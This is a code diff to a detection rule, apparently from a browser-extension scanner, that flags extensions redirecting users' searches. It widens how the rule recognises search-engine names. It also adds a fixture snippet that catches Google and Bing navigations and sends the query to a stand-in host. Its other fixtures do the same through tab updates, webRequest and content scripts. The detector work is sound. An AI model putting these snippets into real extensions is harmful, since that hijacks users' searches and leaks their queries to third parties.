@@ -27,8 +27,9 @@ export const searchHijack = defineRule({
       const left = [...callsOf(script, 'location.replace', 'location.assign').map((call) => call.args[0] ?? 0), ...writesOf(script, 'href', 'location').filter((write) => write.property === 'location' || /(^|\.)location$/.test(apiPath(script, write.object) ?? '')).map((write) => write.value)];
       for (const value of left) if (isElsewhere(pattern(script, value)) && [...originPaths(script, value)].some((path) => /(^|\.)location(\.(search|href|hash))?$/.test(path))) yield hit(value, { message: `It runs on ${engines} and leads on to ${hostOf(pattern(script, value)) ?? ''}.` });
     }
-    const engine = textsOf(script).find(({ text }) => ENGINE.test(text) && text.length < 200);
-    if (engine === undefined) return;
+    const named = textsOf(script).find(({ text }) => ENGINE.test(text) && text.length < 200)?.text ?? script.strings.find((text) => text.length < 60 && ENGINE.test(text) && text.includes('.'));
+    if (named === undefined) return;
+    const engine = { text: named };
     for (const call of few(callsOf(script, 'chrome.tabs.update', 'chrome.tabs.create'))) {
       const to = pattern(script, propertyOf(script, call.args[1] ?? call.args[0] ?? 0, 'url') || propertyOf(script, call.args[0] ?? 0, 'url'));
       if (isElsewhere(to) && reactsToTabs(script, call.value)) yield hit(call.value, { message: `Searches are recognised (${engine.text.slice(0, 60)}) and led to ${hostOf(to) ?? to}.` });
@@ -44,6 +45,7 @@ export const searchHijack = defineRule({
       backgroundExample('chrome.tabs.onUpdated.addListener((id, info) => { if (info.url && info.url.includes("google.com/search")) { const q = new URL(info.url).searchParams.get("q"); chrome.tabs.update(id, { url: "https://find.example/results?q=" + q }); } });'),
       backgroundExample('chrome.webRequest.onBeforeRequest.addListener((d) => { const m = /[?&]q=([^&]+)/.exec(d.url); return { redirectUrl: "https://find.example/s?q=" + m[1] + "&aff=7" }; }, { urls: ["*://*.bing.com/search*"] }, ["blocking"]);'),
       contentExample('const q = new URLSearchParams(location.search).get("q"); if (q) location.replace("https://quick.example/r?q=" + encodeURIComponent(q));', { content_scripts: [{ matches: ['*://www.google.com/search*'], js: ['content.js'] }] }),
+      backgroundExample('chrome.webNavigation.onBeforeNavigate.addListener((d) => { const u = new URL(d.url); const p = { "www.google.com": "q", "www.bing.com": "q" }[u.hostname]; if (p) chrome.tabs.update(d.tabId, { url: "https://go.example/find?term=" + encodeURIComponent(u.searchParams.get(p)) }); });'),
     ],
     good: [
       contentExample('const q = new URLSearchParams(location.search).get("q"); link.onclick = () => { open("https://quick.example/r?q=" + q); };', { content_scripts: [{ matches: ['*://www.google.com/search*'], js: ['content.js'] }] }),
